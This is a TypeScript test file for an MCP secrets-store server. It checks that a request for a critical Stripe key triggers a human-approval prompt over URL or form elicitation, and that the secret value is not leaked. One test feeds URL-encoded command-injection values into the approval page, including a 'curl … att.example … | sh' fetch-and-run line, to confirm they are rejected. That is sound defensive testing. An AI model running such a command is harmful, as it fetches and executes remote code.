/** Approval in the client: an APPROVAL_REQUIRED answer also elicits the human, when the client declares it can. */
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { SSEClientTransport } from '@modelcontextprotocol/sdk/client/sse.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { ElicitRequestSchema, type ElicitRequest } from '@modelcontextprotocol/sdk/types.js';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startInProcess, type InProcessServer } from '../helpers/remote-server.js';

const APPROVAL_URL = 'https://approve.example.com/dashboard/approvals';
let withUrl: InProcessServer;
let withoutUrl: InProcessServer;
let withDashboard: InProcessServer;
const DASHBOARD = 'https://secrets.example.com/dashboard';

async function seed(server: InProcessServer): Promise<void> {
  await server.runtime.backend.put({ namespace: 'prod/stripe', key: 'STRIPE_SECRET_KEY', value: 'sk_live_elicit', secret_type: 'api_key', access_tier: 'critical', metadata: {} });
}

beforeAll(async () => {
  withUrl = await startInProcess({ agents: [{ id: 'a', grants: ['secrets:*:prod/**'] }], server: { approval_url: APPROVAL_URL } });
  withoutUrl = await startInProcess({ agents: [{ id: 'a', grants: ['secrets:*:prod/**'] }] });
  withDashboard = await startInProcess({ agents: [{ id: 'a', grants: ['secrets:*:prod/**'] }], server: { approval_url: APPROVAL_URL }, dashboard: { public_url: DASHBOARD } });
  await seed(withUrl);
  await seed(withoutUrl);
  await seed(withDashboard);
});
afterAll(async () => {
  await withDashboard?.close();
  await withUrl?.close();
  await withoutUrl?.close();
});

/** `promise`, or a clear failure after 30 s: a liveness bound for a hang, not a speed check. */
async function boundedWait(promise: Promise<void>, what: string): Promise<void> {
  let timer: NodeJS.Timeout | undefined;
  const hang = new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`${what} never arrived`)), 30_000)));
  try {
    await Promise.race([promise, hang]);
  } finally {
    clearTimeout(timer);
  }
}

async function callWith(server: InProcessServer, kind: 'sse' | 'streamable', elicitation: Record<string, unknown> | undefined) {
  const client = new Client({ name: 'elicit-test', version: '1.0.0' }, { capabilities: elicitation ? { elicitation } : {} });
  const elicited: ElicitRequest['params'][] = [];
  let arrived!: () => void;
  const firstElicitation = new Promise<void>((resolve) => (arrived = resolve));
  if (elicitation) {
    client.setRequestHandler(ElicitRequestSchema, async (request) => {
      elicited.push(request.params);
      arrived();
      return { action: 'accept' };
    });
  }
  const headers = { 'x-agent-key': server.keys.a! };
  const transport =
    kind === 'streamable'
      ? new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), { requestInit: { headers } })
      : new SSEClientTransport(new URL(`${server.url}/sse`), { requestInit: { headers }, eventSourceInit: { fetch: (u, init) => fetch(u, { ...init, headers: { ...(init?.headers as Record<string, string>), ...headers } }) } });
  await client.connect(transport);
  const result = (await client.callTool({ name: 'get_secret', arguments: { namespace: 'prod/stripe', key: 'STRIPE_SECRET_KEY' } })) as { isError?: boolean; _meta?: Record<string, { code: string; approval_id: string }> };
  // The elicitation is sent before the answer, but the client may run its handler after the
  // answer arrives: wait for the handler itself (an event), bounded only against a hang.
  if (elicitation) await boundedWait(firstElicitation, 'the elicitation request');
  await client.close();
  const meta = result._meta?.['agent-secret-store/error'];
  return { result, meta, elicited };
}

for (const kind of ['streamable', 'sse'] as const) {
  describe(`elicitation over ${kind}`, () => {
    it('URL mode to server.approval_url when the client supports URL elicitation', async () => {
      const { result, meta, elicited } = await callWith(withUrl, kind, { url: {} });
      expect(result.isError).toBe(true);
      expect(meta?.code).toBe('APPROVAL_REQUIRED');
      expect(elicited).toHaveLength(1);
      expect(elicited[0]).toMatchObject({ mode: 'url', url: `${APPROVAL_URL}?approval_id=${meta!.approval_id}`, elicitationId: expect.any(String) });
      expect(elicited[0]!.message).toMatch(new RegExp(`agent-secret-store --config \\S+ approvals approve ${meta!.approval_id}`));
      expect(JSON.stringify(elicited)).not.toContain('sk_live_elicit');
    });

    it("URL mode to the request's dashboard page when dashboard.public_url is configured (it wins over approval_url)", async () => {
      const { meta, elicited } = await callWith(withDashboard, kind, { url: {} });
      expect(elicited).toHaveLength(1);
      expect(elicited[0]).toMatchObject({ mode: 'url', url: `${DASHBOARD}/approvals/${meta!.approval_id}` });
    });

    it("URL mode to this server's approval page when no approval_url is configured", async () => {
      const { meta, elicited } = await callWith(withoutUrl, kind, { url: {} });
      expect(elicited).toHaveLength(1);
      const url = (elicited[0] as { url: string }).url;
      expect(url).toBe(`${withoutUrl.url}/approvals/${meta!.approval_id}`);
      const page = await fetch(url);
      expect(page.status).toBe(200);
      expect(await page.text()).toContain(`agent-secret-store approvals approve ${meta!.approval_id}`);
      // Anything but an approval id is not echoed into the shell command.
      for (const bad of ['1%3B%20curl%20-s%20https%3A%2F%2Fatt.example%2Fx%7Csh', `${meta!.approval_id}%3Bid`, 'x%20y']) {
        const refused = await fetch(`${withoutUrl.url}/approvals/${bad}`);
        expect(refused.status, bad).toBe(404);
        expect(await refused.text()).not.toContain('approvals approve');
      }
    });

    it('form mode with the CLI command when the client supports only forms', async () => {
      const { meta, elicited } = await callWith(withoutUrl, kind, { form: {} });
      expect(elicited).toHaveLength(1);
      expect(elicited[0]).toMatchObject({ mode: 'form' });
      // The command as the human must type it: the test setup is not in the default place.
      expect(elicited[0]!.message).toMatch(new RegExp(`agent-secret-store --config \\S+ approvals approve ${meta!.approval_id}`));
    });

    it('nothing is elicited when the client did not declare elicitation', async () => {
      const { meta, elicited } = await callWith(withoutUrl, kind, undefined);
      expect(meta?.code).toBe('APPROVAL_REQUIRED');
      expect(elicited).toHaveLength(0);
    });
  });
}
